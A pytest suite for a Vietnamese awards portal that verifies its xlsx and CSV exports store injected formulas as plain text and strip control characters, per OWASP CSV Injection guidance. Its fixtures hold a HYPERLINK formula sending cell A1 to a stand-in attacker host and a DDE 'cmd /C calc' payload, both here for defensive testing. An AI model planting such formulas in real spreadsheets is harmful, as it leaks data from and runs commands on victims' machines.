"""Formula injection and control characters in every spreadsheet and in the open-data files.

A name, position or summary typed as `=HYPERLINK(...)` must stay text in every xlsx the portal
writes (a text cell, never a formula) and start with a single quote in the public CSV (OWASP, CSV
Injection). Text stored before input was cleaned (written here with QuerySet.update(), which no
form or save() cleans) may hold Word's \\x0b or a BEL: every export still succeeds, without them.
"""
import csv
import io
import json

import pytest
from django.urls import reverse

from campaigns.models import Unit
from campaigns.text import csv_text
from reports.exporters import AwardListExporter, DecisionListExporter, ParticipationExporter, QuotaReportExporter
from nominations.models import Nomination

from .helpers import reopen

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("http://ke-xau.example/?x="&A1,"Bấm vào đây")'
FORMULA_POSITION = "@SUM(1+1)*cmd|' /C calc'!A0"
# No NUL: PostgreSQL never stored one (it refuses them), so old data cannot hold it.
SUMMARY_WITH_CONTROLS = "+1 Thành tích năm 2024:\x0bdòng hai\x07 chuông\x1b nul\r\ndòng ba\x85."
SUMMARY_CLEANED = "+1 Thành tích năm 2024:\ndòng hai chuông nul\ndòng ba."
UNIT_NAME = "-2+3 Sở Tài chính\x0b tỉnh Ninh Thuận"
UNIT_NAME_CLEANED = "-2+3 Sở Tài chính\n tỉnh Ninh Thuận"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def hostile_world(report_world):
    """The report world with hostile text stored as old data would be: past every form and save()."""
    person = report_world.nominations["awarded_person"]
    Nomination.objects.filter(pk=person.pk).update(
        full_name=FORMULA_NAME, position=FORMULA_POSITION, achievement_summary=SUMMARY_WITH_CONTROLS
    )
    Unit.objects.filter(pk=report_world.units["so-tai-chinh-nt"].pk).update(name=UNIT_NAME)
    return report_world


def cells(wb):
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_no_formula_and_kept(wb, *expected):
    found = cells(wb)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    strings = {c.value: c for c in found if isinstance(c.value, str)}
    for text in expected:
        assert text in strings, text
        assert strings[text].data_type == "s"


def test_award_list_writes_formulas_and_control_characters_as_plain_text(hostile_world, after_export_date):
    _, _, data = AwardListExporter(hostile_world.round).render()
    wb = reopen(data)
    assert_no_formula_and_kept(wb, FORMULA_NAME, FORMULA_POSITION, SUMMARY_CLEANED, UNIT_NAME_CLEANED)


def test_decision_list_writes_formulas_as_plain_text(hostile_world, after_export_date):
    _, _, data = DecisionListExporter(hostile_world.decision).render()
    wb = reopen(data)
    assert_no_formula_and_kept(wb, FORMULA_POSITION, UNIT_NAME_CLEANED)
    names = [c.value for c in cells(wb) if isinstance(c.value, str) and FORMULA_NAME in c.value]
    assert names and all(c.data_type == "s" for c in cells(wb) if c.value in names)


@pytest.mark.parametrize("exporter", [QuotaReportExporter, ParticipationExporter])
def test_round_reports_write_unit_names_as_plain_text(hostile_world, after_export_date, exporter):
    _, _, data = exporter(hostile_world.round).render()
    wb = reopen(data)
    assert [c.coordinate for c in cells(wb) if c.data_type == "f"] == []
    if exporter is ParticipationExporter:
        assert_no_formula_and_kept(wb, UNIT_NAME_CLEANED)


def test_export_pages_with_control_characters_download_a_file_not_a_500(client, hostile_world, after_export_date):
    """The pages officers use: the award list (small: built at once), the decision list, the round reports."""
    client.force_login(hostile_world.users["administrator"])
    round_id = hostile_world.round.pk
    response = client.post(reverse("reports_export", args=(round_id,)), {})
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    assert_no_formula_and_kept(reopen(response.content), FORMULA_NAME, SUMMARY_CLEANED)
    for url in (
        reverse("reports_decision_xlsx", args=(hostile_world.decision.pk,)),
        reverse("reports_quota_xlsx", args=(round_id,)),
        reverse("reports_participation_xlsx", args=(round_id,)),
    ):
        response = client.get(url)
        assert response.status_code == 200 and response["Content-Type"] == XLSX, url
        assert [c.coordinate for c in cells(reopen(response.content)) if c.data_type == "f"] == []


def open_data_urls(round_):
    args = (round_.campaign.code, round_.code)
    return reverse("open_data_csv", args=args), reverse("open_data_json", args=args)


def test_open_data_csv_neutralises_formulas_owasp(client, hostile_world):
    csv_url, json_url = open_data_urls(hostile_world.round)
    response = client.get(csv_url)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_name = {row[1]: row for row in rows[1:]}
    assert set(by_name) == {"'" + FORMULA_NAME, "'" + UNIT_NAME_CLEANED}
    assert by_name["'" + FORMULA_NAME][3] == "Sở Y tế tỉnh Ninh Thuận"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    # The JSON is no spreadsheet: the text as typed, without control characters.
    document = json.loads(client.get(json_url).content)
    assert {row["ten"] for row in document["danh_sach"]} == {FORMULA_NAME, UNIT_NAME_CLEANED}


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+2", "'=1+2"),
        ("+84 912", "'+84 912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tbắt đầu bằng tab", "'\tbắt đầu bằng tab"),
        ("\r=1+2", "'\n=1+2"),
        ("Sở Y tế", "Sở Y tế"),
        ("Nguye\u0302\u0303n", "Nguyễn"),  # decomposed diacritics → NFC
        (12, 12),
    ],
)
def test_csv_text_owasp_prefix(value, expected):
    assert csv_text(value) == expected


def test_export_job_that_cannot_write_says_so_in_vietnamese_without_the_exception(client, report_world, settings, tmp_path):
    """A storage that refuses the file (here MEDIA_ROOT is a file, not a folder): the job's page
    says it failed in Vietnamese; the OSError's text stays in the log."""
    from reports.services import WRITE_FAILED, run_export_job
    from reports.models import ExportJob, ExportStatus

    blocked = tmp_path / "not-a-folder"
    blocked.write_text("x")
    settings.MEDIA_ROOT = blocked
    user = report_world.users["administrator"]
    job = ExportJob.objects.create(round=report_world.round, requested_by=user)
    with pytest.raises(OSError):
        run_export_job(job.pk)
    job.refresh_from_db()
    assert (job.status, job.error) == (ExportStatus.FAILED, WRITE_FAILED)
    client.force_login(user)
    state = client.get(reverse("reports_job_status", args=(job.pk,))).json()
    assert state["error"] == WRITE_FAILED
    page = client.get(reverse("reports_job", args=(job.pk,))).content.decode()
    assert "Errno" not in page and "Lỗi khi ghi tệp" not in page


def test_award_list_cuts_text_longer_than_an_excel_cell_holds(report_world, after_export_date):
    """Stored before the 20,000-character limit: Excel refuses more than 32,767 characters in a cell."""
    person = report_world.nominations["awarded_person"]
    Nomination.objects.filter(pk=person.pk).update(achievement_summary="Đ" * 40_000)
    _, _, data = AwardListExporter(report_world.round).render()
    longest = max(len(c.value) for c in cells(reopen(data)) if isinstance(c.value, str))
    assert longest == 32_767
